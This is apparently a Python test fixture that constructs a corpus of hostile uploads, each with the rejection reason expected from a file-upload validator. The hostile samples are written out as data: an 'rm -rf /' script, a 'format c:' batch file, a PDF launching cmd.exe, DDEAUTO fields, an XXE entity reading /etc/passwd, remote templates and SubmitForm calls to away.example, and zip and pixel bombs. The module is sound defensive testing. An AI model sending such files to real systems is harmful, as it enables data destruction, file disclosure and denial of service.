"""The attack corpus: files that must not come in, made here byte by byte, each with the reason that must be given."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from docx import Document
from openpyxl import Workbook

from tests.factories.packages import with_parts, zipped
from tests.rooms.files.pictures_for_tests import saved, scene

TYPES = "[Content_Types].xml"
MEGABYTE = 1024 * 1024


def word_file() -> bytes:
    held = io.BytesIO()
    document = Document()
    document.add_paragraph("รายงานการประชุม")
    document.save(held)
    return held.getvalue()


def excel_file() -> bytes:
    held = io.BytesIO()
    book = Workbook()
    book.active["A1"] = "ฝ่ายปกครอง"
    book.save(held)
    return held.getvalue()


def powerpoint_file() -> bytes:
    main = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    return zipped({TYPES: types(main), "ppt/presentation.xml": b"<p:presentation xmlns:p='p'/>"})


def types(main: str) -> bytes:
    return (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/main.xml" ContentType="{main}"/></Types>'
    ).encode()


def with_types(original: bytes, old: bytes, new: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(original)) as archive:
        return with_parts(original, **{TYPES: archive.read(TYPES).replace(old, new)})


def relation(what: str, target: str) -> bytes:
    kind = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{what}"
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def word_text(inner: str) -> bytes:
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return f'<w:document xmlns:w="{space}"><w:body>{inner}</w:body></w:document>'.encode()


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **saving: object) -> bytes:
    with pikepdf.new() as made:
        made.add_blank_page(page_size=(300, 400))
        if change:
            change(made)
        held = io.BytesIO()
        made.save(held, **saving)  # type: ignore[arg-type]
        return held.getvalue()


def _script(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def _launch(made: pikepdf.Pdf) -> None:
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 9, 9],
        A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe"),
    )
    made.pages[0].Annots = pikepdf.Array([note])


def _attachment(made: pikepdf.Pdf) -> None:
    made.attachments["tool.exe"] = b"MZ program"


def _form(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=made.make_stream(b"<xdp/>"))


def _sends(made: pikepdf.Pdf) -> None:
    made.pages[0].AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://away.example")
    )


def _film(made: pikepdf.Pdf) -> None:
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 9, 9])
    made.pages[0].Annots = pikepdf.Array([made.make_indirect(note)])


def hidden_script() -> bytes:
    """The script stands in a compressed object stream, where a search for bytes does not see it."""

    def hide(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = made.make_indirect(
            pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        )

    content = pdf(hide, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in content
    return content


def png_bomb() -> bytes:
    """A few kilobytes that unfold to 40,000 x 40,000 pixels."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">L", len(content)) + kind + content + struct.pack(">L", zlib.crc32(kind + content))
        )

    head = struct.pack(">LLBBBBB", 40_000, 40_000, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(5001 * 200), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def zip_bomb() -> bytes:
    """A Word file with a part of 300 MB of nothing."""
    held = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(word_file())) as source,
        zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive,
    ):
        for name in source.namelist():
            archive.writestr(name, source.read(name))
        with archive.open("word/media/image1.bin", "w") as part:
            for _ in range(300):
                part.write(bytes(1024 * 1024))
    return held.getvalue()


def nested_bomb() -> bytes:
    """Six charts whose workbooks hold 50 MB each: none of them is much, all of them are."""
    words = b"".join(b"%09d" % number for number in range(50 * MEGABYTE // 9))
    chart = with_parts(excel_file(), **{"xl/media/words": words})
    return with_parts(word_file(), **{f"word/embeddings/{number}.xlsx": chart for number in range(6)})


def within(inner: bytes) -> bytes:
    return with_parts(word_file(), **{"word/embeddings/inner.docx": inner})


def lying_bomb() -> bytes:
    """A part that says it is small and is not."""
    content = bytearray(with_parts(word_file(), **{"word/media/big": bytes(3 * 1024 * 1024)}))
    size = struct.pack("<L", 3 * 1024 * 1024)
    return bytes(content.replace(size, struct.pack("<L", 1000)))


def twice_named() -> bytes:
    """The second part of that name is what Word would read."""
    other = "word/documenu.xml"
    return with_parts(word_file(), **{other: word_text("<w:p/>")}).replace(
        other.encode(), b"word/document.xml"
    )


ZIP = zipped({"run.bat": b"format c:"})
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
DOCX_MAIN = b"wordprocessingml.document.main+xml"
PHOTO = saved(scene())
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PAGE = b"<!DOCTYPE html><html><script>alert(1)</script></html>"

ATTACKS: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "an empty file": ("photo.jpg", lambda: b"", "empty"),
    "a Windows program": ("photo.jpg", lambda: b"MZ" + bytes(500), "program"),
    "a Linux program": ("photo.png", lambda: b"\x7fELF" + bytes(500), "program"),
    "a shell script": ("report.pdf", lambda: b"#!/bin/sh\nrm -rf /\n", "program"),
    "a Windows shortcut": ("report.docx", lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(90), "program"),
    "an SVG with a script": ("logo.svg", lambda: SVG, "svg"),
    "an SVG called JPG": ("photo.jpg", lambda: SVG, "svg"),
    "an SVG in UTF-16": ("photo.jpg", lambda: SVG.decode().encode("utf-16"), "svg"),
    "a page called PDF": ("report.pdf", lambda: PAGE, "web_page"),
    "a page after blanks": ("report.pdf", lambda: b"\n \t" * 200 + PAGE, "web_page"),
    "a page in UTF-16": ("report.pdf", lambda: PAGE.decode().encode("utf-16-le"), "web_page"),
    "an old Word file": ("report.doc", lambda: OLE, "old_office"),
    "a HEIC photo": ("IMG_1.HEIC", lambda: b"\x00\x00\x00\x18ftypheic" + bytes(300), "heic"),
    "a film": ("film.mp4", lambda: b"\x00\x00\x00\x18ftypmp42" + bytes(300), "unknown"),
    "plain words": ("words.txt", lambda: b"hello", "unknown"),
    "a GIF": ("moving.gif", lambda: b"GIF89a" + bytes(100), "unknown"),
    "a ZIP file": ("all.zip", lambda: ZIP, "archive"),
    "a ZIP file called DOCX": ("report.docx", lambda: ZIP, "archive"),
    "a photo that is a ZIP file too": ("photo.jpg", lambda: PHOTO + ZIP, "polyglot"),
    "a photo that is a Java archive too": (
        "photo.jpg",
        lambda: PHOTO + zipped({"META-INF/MANIFEST.MF": b""}),
        "polyglot",
    ),
    "a PNG that is a page too": (
        "photo.png",
        lambda: saved(scene(), "PNG") + PAGE,
        "polyglot",
    ),
    "a photo whose comment is a page": ("photo.jpg", lambda: saved(scene(), comment=PAGE), "polyglot"),
    "a photo whose comment is a PDF": (
        "photo.jpg",
        lambda: saved(scene(), comment=b"%PDF-1.7 obj"),
        "polyglot",
    ),
    "a PDF that is a ZIP file too": ("report.pdf", lambda: pdf() + ZIP, "polyglot"),
    "a PDF that is a page too": (
        "report.pdf",
        lambda: b"%PDF-1.7\n<html><script>1</script>" + pdf(),
        "polyglot",
    ),
    "a PDF with a script": ("report.pdf", lambda: pdf(_script), "pdf_active"),
    "a PDF with a hidden script": ("report.pdf", hidden_script, "pdf_active"),
    "a PDF that starts a program": ("report.pdf", lambda: pdf(_launch), "pdf_active"),
    "a PDF that sends itself": ("report.pdf", lambda: pdf(_sends), "pdf_active"),
    "a PDF with an XFA form": ("report.pdf", lambda: pdf(_form), "pdf_active"),
    "a PDF with a film": ("report.pdf", lambda: pdf(_film), "pdf_active"),
    "a PDF with an attachment": ("report.pdf", lambda: pdf(_attachment), "pdf_attachment"),
    "a PDF with a password": (
        "report.pdf",
        lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")),
        "pdf_locked",
    ),
    "a PDF that may not be copied": (
        "report.pdf",
        lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="")),
        "pdf_locked",
    ),
    "half a PDF": ("report.pdf", lambda: b"%PDF-1.7\n" + bytes(400), "pdf_damaged"),
    "a PNG of 1.6 billion pixels": ("photo.png", png_bomb, "too_many_pixels"),
    "a cut photo": ("photo.jpg", lambda: PHOTO[: len(PHOTO) // 2], "picture_damaged"),
    "a Word file with macros": (
        "report.docm",
        lambda: with_parts(word_file(), **{"word/vbaProject.bin": OLE}),
        "macro",
    ),
    "a macro file called DOCX": (
        "report.docx",
        lambda: with_types(
            word_file(),
            b"openxmlformats-officedocument.wordprocessingml.document",
            b"ms-word.document.macroEnabled",
        ),
        "macro",
    ),
    "an Excel file with macros": (
        "sums.xlsm",
        lambda: with_parts(excel_file(), **{"xl/vbaProject.bin": OLE}),
        "macro",
    ),
    "a Word file with ActiveX": (
        "report.docx",
        lambda: with_parts(word_file(), **{"word/activeX/activeX1.bin": OLE}),
        "macro",
    ),
    "a Word file with a program inside": (
        "report.docx",
        lambda: with_parts(word_file(), **{"word/embeddings/oleObject1.bin": OLE}),
        "office_object",
    ),
    "a Word file with a macro file inside": (
        "report.docx",
        lambda: with_parts(
            word_file(),
            **{"word/embeddings/book.xlsx": with_parts(excel_file(), **{"xl/vbaProject.bin": OLE})},
        ),
        "macro",
    ),
    "a Word file with a template from elsewhere": (
        "report.docx",
        lambda: with_parts(
            word_file(),
            **{"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://away.example/t.dotm")},
        ),
        "office_link",
    ),
    "a Word file with a template on a share": (
        "report.docx",
        lambda: with_parts(
            word_file(), **{"word/_rels/settings.xml.rels": relation("attachedTemplate", r"\\away\t.dotm")}
        ),
        "office_link",
    ),
    "a Word file with a picture from elsewhere": (
        "report.docx",
        lambda: with_parts(
            word_file(), **{"word/_rels/document.xml.rels": relation("image", "https://away.example/i.png")}
        ),
        "office_link",
    ),
    "a Word file with DDE": (
        "report.docx",
        lambda: with_parts(
            word_file(),
            **{
                "word/document.xml": word_text(
                    "<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\x.exe</w:instrText></w:r></w:p>"
                )
            },
        ),
        "office_link",
    ),
    "a Word file of half-written fields": (
        "report.docx",
        lambda: with_parts(
            word_file(), **{"word/document.xml": b"<w:instrText " * 60_000, "word/x.xml": b"<!ENTITY"}
        ),
        "office_damaged",
    ),
    "an Excel file with DDE": (
        "sums.xlsx",
        lambda: with_parts(
            excel_file(), **{"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink/></externalLink>"}
        ),
        "office_link",
    ),
    "a Word file with an entity": (
        "report.docx",
        lambda: with_parts(
            word_file(),
            **{
                "word/document.xml": b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                + word_text("&x;")
            },
        ),
        "office_damaged",
    ),
    "a Word file with an entity in its types": (
        "report.docx",
        lambda: with_parts(word_file(), **{TYPES: b'<!DOCTYPE t [<!ENTITY a "b">]><Types>&a;</Types>'}),
        "office_damaged",
    ),
    "a Word file in UTF-16": (
        "report.docx",
        lambda: with_parts(word_file(), **{"word/document.xml": word_text("").decode().encode("utf-16")}),
        "office_damaged",
    ),
    "a Word file that bursts": ("report.docx", zip_bomb, "bomb"),
    "a Word file packed a thousand times": (
        "report.docx",
        lambda: with_parts(word_file(), **{"word/media/image1.bin": bytes(60 * MEGABYTE)}),
        "bomb",
    ),
    "a Word file that bursts by its charts": ("report.docx", nested_bomb, "bomb"),
    "a Word file with a text of 40 MB": (
        "report.docx",
        lambda: with_parts(
            word_file(), **{"word/footnotes.xml": b"".join(b"%09d" % n for n in range(40 * MEGABYTE // 9))}
        ),
        "bomb",
    ),
    "a Word file of 10,001 parts": (
        "report.docx",
        lambda: with_parts(word_file(), **{f"word/media/{number}": b"" for number in range(10_001)}),
        "bomb",
    ),
    "a Word file in a Word file in a Word file": (
        "report.docx",
        lambda: within(within(within(excel_file()))),
        "office_object",
    ),
    "a Word file that lies about its size": ("report.docx", lying_bomb, "office_damaged"),
    "a Word file with a part named twice": ("report.docx", twice_named, "office_damaged"),
    "half a Word file": ("report.docx", lambda: word_file()[:4000], "office_damaged"),
}
